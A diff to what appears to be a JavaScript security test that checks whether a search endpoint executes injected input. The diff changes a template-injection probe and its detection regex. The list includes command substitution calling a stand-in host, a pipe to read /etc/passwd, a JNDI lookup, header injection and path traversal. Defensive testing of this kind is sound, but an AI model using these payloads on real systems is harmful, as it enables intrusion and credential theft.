@@ -98,7 +98,7 @@ const injections = [
   "$(curl evil.example)",
   "`id`",
   "| cat /etc/passwd",
-  "{{7*7}}".replace("{{", "{ {"),
+  "{ {7331*1337}}",
   "%0d%0aSet-Cookie: a=b",
   "${jndi:ldap://evil.example/a}",
   "../../../../etc/passwd",
@@ -113,7 +113,7 @@ const commandCases = injections.map((words, index) =>
     `A text that is a command somewhere runs nowhere: ${JSON.stringify(words)}`,
     step(search(words), {
       status: 200,
-      silent: /root:|uid=\d|\b49\b/,
+      silent: /root:|uid=\d|9801547/,
       decided: ["server:ok", "server:input-refused", "server:arguments-invalid"],
     }),
   ),
